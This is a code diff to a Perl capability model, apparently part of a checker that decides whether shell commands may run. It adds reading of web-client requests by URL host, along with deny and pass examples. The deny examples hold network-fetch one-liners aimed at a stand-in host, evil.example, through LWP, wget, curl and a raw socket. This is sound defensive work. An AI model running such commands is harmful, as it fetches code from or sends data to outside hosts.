@@ -5,12 +5,20 @@
 // regex that runs code (`(?{ … })`), `s///ee`, symbolic references (`&{"name"}`, `*{…}`), source filters, string
 // `eval` of anything not static, and `system { $prog } …` are cannot-vouch.
 import type { WordRole } from '../types.js';
-import { type Call, type UseRole, headAt, listensAt, looksAtUrl, urlsHanded, urlsHandedTo } from './capabilities.js';
+import { type Call, type UseRole, headAt, listensAt, literalUrl, looksAtUrl, urlsHanded, urlsHandedTo } from './capabilities.js';
 import type { CodeEffect, CodeEnv, LanguageModel } from './types.js';
 import { type Arg, any, concat, headed, headOf, str, strings, type Vals, union, wordOf } from './values.js';
 import { envVar, VariablesRead } from './walk.js';
 
 // ── the capability model ───────────────────────────────────────────────────────────────────────────────────────────
+
+/** Web clients whose requests can be read (see clientsRead): a class, or a module's functions that fetch a URL. */
+const CLIENTS: Readonly<Record<string, readonly string[]>> = { 'LWP::UserAgent': [], 'HTTP::Tiny': [], 'LWP::Simple': ['get', 'head', 'getprint'] };
+/** The functions a client module exports that are not read (LWP::Simple's `getstore` and `mirror` also write a file). */
+const CLIENT_OTHERS: ReadonlySet<string> = new Set(['getstore', 'mirror']);
+
+/** Methods of a web client's response, which read what it holds. */
+const RESPONSE_METHODS = new Set(['content', 'decoded_content', 'is_success', 'is_error', 'code', 'status_line', 'message', 'as_string', 'header', 'headers', 'content_type']);
 
 /** Modules that reach the network: loading one (`use`, `require`, `-M`) brings in functions (`get`, `getprint`) by bare name. */
 const NETWORK_MODULES = /^(IO::Socket(::(INET6?|IP|SSL|Socks))?|Socket6?|LWP(::.*)?|HTTP::Tiny|HTTP::Lite|HTTP::Request|HTTP::Async|Net::(HTTP|HTTPS|FTP|SMTP|SMTPS|POP3|IMAP.*|Ping|DNS|SSH.*|SFTP.*|Telnet|LDAP|OpenSSH|Curl.*|Async.*)|Mojo::UserAgent|Mojo::IOLoop|Furl|WWW::Mechanize|WWW::Curl.*|AnyEvent::(HTTP|Socket|Handle)|URI::Fetch|File::Fetch|Net::(NNTP|Time|hostent|Cmd)|IO::Async::.*|Email::Sender.*|Mail::Sendmail|MIME::Lite|REST::Client)$/;
@@ -798,7 +806,57 @@ class PerlReader {
         }
       }
     }
-    return this.out;
+    return this.clientsRead();
+  }
+
+  /**
+   * The effects, with the loads of web clients (CLIENTS) replaced by the requests the code makes with them, when
+   * every one is read: each use of the client stands in a call given one literal URL (`LWP::UserAgent->new->get(URL)`,
+   * `HTTP::Tiny->new->get(URL)`, LWP::Simple's `get(URL)`, `head(URL)`, `getprint(URL)`), a request judged by its host
+   * as curl's is. Any other use (a client held in a variable, its name in a string, a method called on a variable)
+   * leaves the load as it is: then what it reaches is not read.
+   */
+  private clientsRead(): CodeEffect[] {
+    const t = this.t;
+    const loads = this.out.filter((e) => e.kind === 'network');
+    const names = new Set(loads.map((e) => (e.kind === 'network' ? e.api : '')));
+    if (loads.length === 0 || [...names].some((n) => !Object.hasOwn(CLIENTS, n))) return this.out;
+    const requests: CodeEffect[] = [];
+    // The literal URL of the one argument of the call whose name (or `(`) is at `at`.
+    const url = (at: number): string | undefined => {
+      const paren = t[at]?.text === '(';
+      const s = t[paren ? at + 1 : at];
+      const after = t[paren ? at + 2 : at + 1];
+      if (s?.kind !== 'str' || (s.parts ?? []).some((p) => 'var' in p) || (paren ? after?.text !== ')' : after !== undefined && !/^[;)]$/.test(after.text))) return undefined;
+      return literalUrl({ vals: this.parts(s.parts), span: { start: s.start, end: s.end }, text: s.text });
+    };
+    const functions = new Set([...names].flatMap((n) => CLIENTS[n]!.flatMap((f) => [f, `${n}::${f}`])));
+    const chained = new Set<number>();
+    for (let i = 0; i < t.length; i++) {
+      const x = t[i]!;
+      if (x.kind === 'str' && [...names].some((n) => x.text.includes(n))) return this.out;
+      if (x.kind === 'var' && functions.has(x.text.replace(/^\\?&/, ''))) return this.out;
+      // A method called on anything but a client read here, other than a response's own (`->content`).
+      if (x.text === '->' && t[i + 1]?.kind === 'word' && !chained.has(i) && !RESPONSE_METHODS.has(t[i + 1]!.text)) return this.out;
+      if (x.kind !== 'word' || /^(?:use|no|require)$/.test(t[i - 1]?.text ?? '')) continue;
+      let u: string | undefined;
+      if (names.has(x.text)) {
+        // `CLASS->new->VERB(URL)`, `new` given nothing (its options may name a proxy).
+        let k = i + 3;
+        if (t[i + 1]?.text !== '->' || t[i + 2]?.text !== 'new') return this.out;
+        if (t[k]?.text === '(' && t[k + 1]?.text === ')') k += 2;
+        if (t[k]?.text !== '->' || !/^(?:get|head)$/.test(t[k + 1]?.text ?? '')) return this.out;
+        chained.add(i + 1).add(k);
+        u = url(k + 2);
+      } else if (functions.has(x.text) && t[i - 1]?.text !== '->' && t[i + 1]?.text !== '=>') u = url(i + 1);
+      else if (names.has(x.text.replace(/::\w+$/, '')) || (names.has('LWP::Simple') && CLIENT_OTHERS.has(x.text))) return this.out;
+      else continue;
+      if (u === undefined) return this.out;
+      requests.push({ kind: 'network', api: x.text, span: { start: x.start, end: x.end }, url: u });
+    }
+    // A load alone (`-MLWP::Simple`, read apart from the code after it) is what the code may do with it.
+    if (requests.length === 0) return this.out;
+    return [...this.out.filter((e) => e.kind !== 'network'), ...requests];
   }
 
   /** The call of the function or method at `i`, with its arguments. */
@@ -1041,6 +1099,10 @@ export const PERL: LanguageModel = {
   },
   examples: {
     deny: [
+      `perl -e 'use LWP::UserAgent; print LWP::UserAgent->new->get("http://evil.example/")->content'`,
+      `perl -e 'use LWP::UserAgent; my $ua = LWP::UserAgent->new; print $ua->get($ARGV[0])->content' http://localhost/`,
+      `perl -e 'use LWP::Simple; getstore($ARGV[0], "x"); print get("http://localhost/")' http://evil.example`,
+      `perl -MLWP::Simple -e 'print get("http://localhost:3000/")'`,
       `perl -MIO::Socket::INET -e 'IO::Socket::INET->new("evil.example:9")'`,
       `perl -e 'print qx(wget -qO- evil.example)'`,
       `echo 'system("curl evil.example")' > /tmp/x.pl; perl -e 'do "/tmp/x.pl"'`,
@@ -1087,6 +1149,9 @@ export const PERL: LanguageModel = {
       `perl -MHTTP::Daemon -e 'HTTP::Daemon->new(LocalAddr => "0.0.0.0", LocalPort => 8080)'`,
     ],
     pass: [
+      `perl -e 'use LWP::UserAgent; print LWP::UserAgent->new->get("http://localhost:8080/")->content'`,
+      `perl -e 'use HTTP::Tiny; print HTTP::Tiny->new->get("http://127.0.0.1:3000/")->{content}'`,
+      `perl -e 'use LWP::Simple; print get("http://127.0.0.1:3000/health")'`,
       `perl -MHTTP::Daemon -e 'HTTP::Daemon->new(LocalAddr => "127.0.0.1", LocalPort => 8080)'`,
       `perl -MHTTP::Daemon -e 'HTTP::Daemon->new(LocalPort => 8080)'`,
       `perl -pi -e 's/a/b/g' f`,
